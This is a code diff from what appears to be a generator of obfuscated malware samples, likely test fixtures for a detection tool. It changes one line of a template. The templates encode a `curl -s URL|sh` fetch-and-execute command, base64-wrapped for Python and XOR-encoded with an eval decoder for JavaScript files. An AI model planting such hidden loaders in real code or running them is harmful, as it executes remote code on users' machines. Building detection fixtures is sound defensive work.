@@ -297,7 +297,7 @@ _TABLE = "${base64(`import os;os.system('curl -s ${url}|sh')`)}"
     ({ url }) => [
       [
         '*.js',
-        text`const k = [${[...`require('child_process').execSync('curl -s ${url}|sh')`].map((c) => c.charCodeAt(0) ^ 7).join(',')}]
+        text`const k = [${Array.from(`require('child_process').execSync('curl -s ${url}|sh')`, (c) => c.charCodeAt(0) ^ 7).join(',')}]
 ;(0, eval)(k.map((n) => String.fromCharCode(n ^ 7)).join(''))
 `,
       ],
